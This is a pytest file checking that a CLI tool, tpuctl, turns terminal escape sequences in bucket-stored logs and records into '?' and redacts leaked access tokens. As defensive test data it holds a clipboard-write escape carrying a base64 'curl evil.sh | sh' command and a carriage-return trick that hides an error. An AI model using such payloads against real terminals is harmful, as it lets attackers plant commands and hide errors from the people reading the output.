"""Text in a bucket is written by whoever can write the bucket (and by the job): a run's reason,
a host's bootstrap message, the job's log. Through the installed tpuctl, every command that shows
it shows the terminal escapes in it as ``?`` -- a clear-screen (ESC [2J) and an OSC 52 clipboard
write (ESC ]52;c;BASE64 BEL) reach neither the terminal nor a pipe -- and `logs --raw` gives the
bytes. Before, they reached stdout raw (click strips only CSI sequences, and only off a terminal)."""

from __future__ import annotations

import json
import os
import subprocess
import time

import pytest

from provision.cloud.storage import local_bucket
from provision.runs import store as runs
from tests.conftest import REPO, TPUCTL_BIN, run_tpuctl_process
from tests.e2e.hostile_records import (
    COMMANDS,
    EXEMPT,
    SHOWN,
    SHOWN_NAME,
    TOKEN,
    controls,
    make_world,
    run_command,
)

CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"      # "curl evil.sh | sh" onto the clipboard
SHOWN_CLEAR = "?[2J?[H"
SHOWN_CLIPBOARD = "?]52;c;Y3VybCBldmlsLnNoIHwgc2g=?"


def _hostile_run() -> runs.RunRecord:
    """A run of cluster lab whose record, log, events and bootstrap status carry escapes, as a
    bucket writer (or the job, for its log) would leave them."""
    rec = runs.RunRecord(run_id=runs.new_run_id("lab"), cluster="lab", provider="local", project="local",
                         zone="us-central1-b", bucket="gs://tpuctl-local", model_dir="gs://tpuctl-local/m",
                         num_train_steps=10, save_checkpoints_steps=5, status="gave_up", attempts=1,
                         reason=f"gave up{CLEAR}: all good{CLIPBOARD}")
    bucket = local_bucket("tpuctl-local")
    store = runs.RunStore(bucket, rec.run_id)
    store.save(rec)
    runs.remember(rec)
    bucket.write_bytes(f"{store.attempt_prefix(1)}/log-0.txt",
                       f"step 1\n{CLEAR}step 2\ttab\r\n{CLIPBOARD}done\n".encode())
    store.event("note", message=f"see{CLIPBOARD}")
    bucket.write_bytes("tpuctl/clusters/lab/bootstrap/host-0.json", json.dumps({
        "role": "host", "worker": "0", "state": "failed", "step": "pip", "message": f"pip failed{CLEAR}",
        "log_tail": [f"last{CLIPBOARD}"]}).encode())
    return rec


def _tpuctl_bytes(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([str(TPUCTL_BIN), *args, "--provider", "local"], cwd=REPO, env=dict(os.environ),
                          capture_output=True, timeout=120, check=False)


def test_status_shows_escapes_in_run_reasons_and_bootstrap_messages_as_question_marks():
    assert run_tpuctl_process("up", "lab", "-a", "v2-8", "--provider", "local").code == 0
    rec = _hostile_run()
    res = _tpuctl_bytes("status")
    assert res.returncode == 0, res.stderr
    out = res.stdout.decode()
    assert "\x1b" not in out and "\x07" not in out and "\x1b" not in res.stderr.decode()
    lines = out.splitlines()
    assert (f"lab: host bootstrap failed: host-0 at pip: pip failed{SHOWN_CLEAR} (its log: tpuctl-bootstrap.log "
            f"on that host; last line: last{SHOWN_CLIPBOARD})") in lines
    assert f"{rec.run_id} stopped: gave up{SHOWN_CLEAR}: all good{SHOWN_CLIPBOARD}" in lines
    # --json keeps the text as written, escaped the JSON way
    doc = json.loads(_tpuctl_bytes("status", "--json").stdout)
    assert doc["clusters"][0]["run"]["reason"] == rec.reason


def test_logs_show_escapes_as_question_marks_and_raw_gives_the_bytes():
    rec = _hostile_run()
    res = _tpuctl_bytes("logs", rec.run_id)
    assert res.returncode == 0, res.stderr
    assert res.stdout.decode() == f"step 1\n{SHOWN_CLEAR}step 2\ttab\n{SHOWN_CLIPBOARD}done\n"
    events = _tpuctl_bytes("logs", rec.run_id, "--events").stdout.decode()
    assert events.endswith(f" note message=see{SHOWN_CLIPBOARD}\n") and "\x1b" not in events
    raw = _tpuctl_bytes("logs", rec.run_id, "--raw")
    assert raw.returncode == 0 and raw.stdout == f"step 1\n{CLEAR}step 2\ttab\r\n{CLIPBOARD}done\n".encode()


def test_a_bootstrap_failure_the_supervisor_reports_carries_no_escape():
    """``train`` in the foreground prints the supervisor's reason when a host's bootstrap failed
    (``BucketExecutor.blocked``): the status object it quotes is a bucket object too."""
    from provision.cluster.bootstrap import HostBootstrap

    status = HostBootstrap(role="worker", worker="0", host="", state="failed", step="pip",
                           message=f"pip failed{CLEAR}{CLIPBOARD}", started=None, time=None)
    assert status.line() == f"host bootstrap failed: worker-0 at pip: pip failed{SHOWN_CLEAR}{SHOWN_CLIPBOARD}"


@pytest.mark.parametrize("name", sorted(COMMANDS))
def test_no_command_prints_a_control_character_that_a_bucket_holds(tmp_path, name):
    """Every command that shows records (tests/e2e/hostile_records.py lists them) against one
    world of records full of escapes: CSI, an OSC 8 link, C1 controls, a right-to-left override,
    BEL. Each shows them as ``?``, on stdout and stderr alike. Before the output edge, ``cost`` and
    ``down --idle`` printed them raw (``cost RUN`` with the keys of ``seconds_by_state``), and
    ``logs`` printed the job's access token."""
    world = make_world(tmp_path)
    res = run_command(world, name)
    assert res.returncode == 0, res.stderr.decode()
    assert controls(res.stdout) == [] and controls(res.stderr) == [], (res.stdout, res.stderr)
    shown = res.stdout.decode() + res.stderr.decode()
    assert SHOWN in shown or SHOWN_NAME in shown   # the record (or object name) was shown, its escapes as "?"
    assert TOKEN not in shown and "internal error" not in shown


def _command_paths(group, prefix: str = "") -> dict[str, object]:
    """Every command the CLI has (hidden ones too), by its words: ``sweep stop``."""
    import click

    paths: dict[str, object] = {}
    for name, cmd in group.commands.items():
        path = f"{prefix} {name}".strip()
        if isinstance(cmd, click.Group):
            paths.update(_command_paths(cmd, path))
        else:
            paths[path] = cmd
    return paths


def _path_of(words: list[str], paths: dict[str, object]) -> str:
    path = ""
    for word in words:
        longer = f"{path} {word}".strip()
        if not any(p == longer or p.startswith(longer + " ") for p in paths):
            break
        path = longer
    return path


def test_every_command_is_checked_against_hostile_records_or_exempt_with_a_reason():
    """A command added later that prints a bucket's strings is checked by the test above only if
    it is in hostile_records.COMMANDS: every command of the CLI is there or in EXEMPT, with the
    reason it prints nothing a bucket holds."""
    from provision.cli import cli

    paths = _command_paths(cli)
    covered = {_path_of(words, paths) for words, _kind in COMMANDS.values()}
    assert covered <= set(paths), covered - set(paths)
    missing = sorted(set(paths) - covered - set(EXEMPT))
    assert not missing, f"add each to hostile_records.COMMANDS, or to EXEMPT with a reason: {missing}"
    assert not covered & set(EXEMPT), covered & set(EXEMPT)
    assert set(EXEMPT) <= set(paths), set(EXEMPT) - set(paths)
    assert all(len(why) > 20 for why in EXEMPT.values())


def test_logs_scrub_a_token_the_job_printed_even_cut_in_two_by_an_upload(tmp_path):
    """The job runs as the hosts' service account and may print its access token. ``logs`` shows
    it scrubbed (provision.basics.redact), ``--follow`` too when the host uploaded the log with the
    token cut in two (it prints whole lines while the run lives); ``--raw`` is the bytes, as asked.
    Before, ``logs`` printed the token as the job wrote it."""
    world = make_world(tmp_path)
    shown = run_command(world, "logs").stdout.decode()
    assert "authorizing with ya29.<redacted>\n" in shown and TOKEN not in shown
    assert TOKEN.encode() in subprocess.run([str(TPUCTL_BIN), "logs", world.run, "--raw", "--provider", "local"],
                                            cwd=REPO, capture_output=True, timeout=120, check=True).stdout
    log = world.bucket / f"tpuctl/runs/{world.run}/attempts/1/log-0.txt"
    log.write_bytes(f"refreshing {TOKEN[:12]}".encode())          # the upload so far: half a token
    world.patch_run(status="running")
    follow = subprocess.Popen([str(TPUCTL_BIN), "logs", world.run, "--follow", "--provider", "local"], cwd=REPO,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        time.sleep(3.0)                                          # a look or two at the half line
        log.write_bytes(f"refreshing {TOKEN}\n".encode())
        time.sleep(3.0)
        world.patch_run(status="finished")
        out, err = follow.communicate(timeout=60)
    finally:
        follow.kill()
    assert out.decode() == "refreshing ya29.<redacted>\n", err
    assert TOKEN[:12].encode() not in out


def test_stage_still_redraws_its_own_progress_bar_on_a_terminal(tmp_path):
    """The output edge shows a carriage return as ``?`` except where it starts a write of one
    redrawn line: ``stage``'s progress bar, on a terminal (a pseudo-terminal here), is drawn as
    it was, not as ``?[####...``."""
    import pty

    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.bin").write_bytes(os.urandom(200_000))
    master, replica = pty.openpty()
    proc = subprocess.Popen([str(TPUCTL_BIN), "stage", str(tmp_path / "src"), "gs://tpuctl-local/x", "--provider",
                             "local", "--create-bucket", "--location", "us-central1"], cwd=REPO,
                            stdin=replica, stdout=replica, stderr=replica, close_fds=True)
    os.close(replica)
    seen = b""
    while True:
        try:
            chunk = os.read(master, 4096)
        except OSError:                          # the terminal's other end closed: tpuctl exited
            break
        if not chunk:
            break
        seen += chunk
    os.close(master)
    assert proc.wait(timeout=60) == 0, seen
    assert b"\r[########################] 100.0% 200.0 kB/200.0 kB" in seen and b"?[#" not in seen


def test_a_log_that_starts_with_a_carriage_return_cannot_draw_over_the_line_above():
    """A carriage return at the start of what a command writes would bring the cursor back over
    the line a person reads, and a bucket's text would overwrite it (here: an error hidden by
    "all good"). Only tpuctl's own progress bar redraws a line; anyone else's shows as ``?``."""
    rec = _hostile_run()
    bucket = local_bucket("tpuctl-local")
    bucket.write_bytes(f"{runs.RunStore(bucket, rec.run_id).attempt_prefix(1)}/log-0.txt",
                       b"\rstep 10 of 10: all good\n")
    res = _tpuctl_bytes("logs", rec.run_id)
    assert res.returncode == 0, res.stderr
    assert res.stdout == b"?step 10 of 10: all good\n"
